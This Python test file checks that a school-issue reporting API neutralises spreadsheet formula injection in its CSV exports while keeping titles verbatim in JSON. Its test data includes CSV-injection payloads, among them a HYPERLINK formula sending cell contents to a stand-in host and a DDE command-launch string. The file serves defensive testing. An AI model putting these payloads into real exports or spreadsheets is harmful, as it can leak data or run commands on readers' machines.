# test_csv_injection.py -- titles and names that a spreadsheet would run as formulas
# (=HYPERLINK, +, -, @, a tab, a carriage return, the full-width forms, or any of them after
# a semicolon) are stored and returned verbatim in JSON, and neutralised in the report's
# CSV: a single quote in front inside a quoted cell, as OWASP recommends, so that no
# cell of either CSV starts a formula, whether a reader splits on commas or semicolons.

import csv
import io
import re
import pytest

from dlapi import ICT, assert_json, describe, file_issue, parse_time

HOSTILE_TITLES = [
    '=HYPERLINK("http://x.invalid/?q="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+2 giáo viên",
    "-2+3 phòng học",
    "@SUM(A1:A9)",
    "\t=1+2 thiếu bàn ghế",
    "\r=1+2 thiếu máy tính",
    "＝1+2 toàn chiều rộng",
    "Thiếu phòng học;=1+2",
    'Thiếu nước sạch;"=1+2"',
    "Thiếu bàn ghế\n=1+2;lớp 3",
]
ORDINARY_TITLE = "Thiếu giáo viên Tiếng Anh, khối 3"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def month_of(issue):
    """The report month an issue is counted in: its filing time's, in ICT."""
    return parse_time(issue["created_at"]).astimezone(ICT).strftime("%Y-%m")


def csv_report(client, part, month):
    r = client.get("/api/reports/monthly",
                   params={"month": month, "format": "csv", "part": part})
    assert r.status_code == 200, describe(r)
    assert r.content.startswith(b"\xef\xbb\xbf"), r.content[:20]
    return r.content[3:].decode("utf-8")


def rows_of(text):
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def assert_no_formula_cell(text):
    """No cell starts a formula, read as RFC 4180 with commas, nor by a reader that
    splits rows on every line break and cells on semicolons, honouring no quotes (Excel
    under a Vietnamese locale)."""
    for row in rows_of(text):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), f"formula cell {cell!r} in {row}"
    for line in re.split(r"[\r\n]", text):
        for piece in line.split(";"):
            assert not piece.lstrip('"').startswith(FORMULA_STARTS), \
                f"a semicolon-split cell starts a formula: {piece!r} in {line!r}"


@pytest.fixture(scope="module")
def filed(app):
    """(principal, {title: ref}, the report month they are all in). The month comes from
    the issues, not the clock: a run across a month's end (17:00 UTC) files them again,
    all in the new month."""
    principal = app.login("ht.th031")
    for _ in range(2):
        refs, months = {}, set()
        for title in HOSTILE_TITLES + [ORDINARY_TITLE]:
            issue = file_issue(principal, title=title, description="Kiểm tra xuất CSV an toàn.")
            refs[title] = issue["ref"]
            months.add(month_of(issue))
        if len(months) == 1:
            return principal, refs, months.pop()
    raise AssertionError(f"issues filed a moment apart fell in months {sorted(months)}")


def test_titles_kept_verbatim_in_json(app, filed):
    principal, refs, month = filed
    for title, ref in refs.items():
        issue = assert_json(principal.get(f"/api/issues/{ref}"), 200)
        assert issue["title"] == title
    report = assert_json(principal.get("/api/reports/monthly",
                                       params={"month": month}), 200)
    titles = {i["ref"]: i["title"] for i in report["issues"]}
    assert all(titles[ref] == title for title, ref in refs.items()), titles


def test_issues_csv_neutralises_formulas(app, filed):
    principal, refs, month = filed
    officer = app.login("cb.gdth1")
    for who in (principal, officer):
        text = csv_report(who, "issues", month)
        assert_no_formula_cell(text)
        rows = rows_of(text)
        by_ref = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
        for title in HOSTILE_TITLES:
            got = by_ref[refs[title]]["title"]
            # Readable: the text itself, a quote in front and after a risky ; or line break.
            readable = got.removeprefix("'")
            for sep in ";\r\n":
                readable = readable.replace(sep + "'", sep)
            assert readable == title, (title, got)
            assert got != title, f"{title!r} was written raw"
        assert by_ref[refs[ORDINARY_TITLE]]["title"] == ORDINARY_TITLE
    raw = csv_report(principal, "issues", month)
    assert '"\'=HYPERLINK(""http://x.invalid/?q=""&A1,""Bấm vào đây"")"' in raw


def test_summary_csv_neutralises_an_admins_names(app, filed):
    """Names come from an admin, but they reach the same spreadsheets."""
    admin = app.login("admin")
    r = admin.send_json("PATCH", "/api/schools/TH031", {"name": "=1+2 Trường Tiểu học"})
    assert r.status_code == 200, describe(r)
    text = csv_report(app.login("cb.gdth1"), "summary", filed[2])
    assert_no_formula_cell(text)
    assert ["school", "TH031", "'=1+2 Trường Tiểu học"] in [r[:3] for r in rows_of(text)]
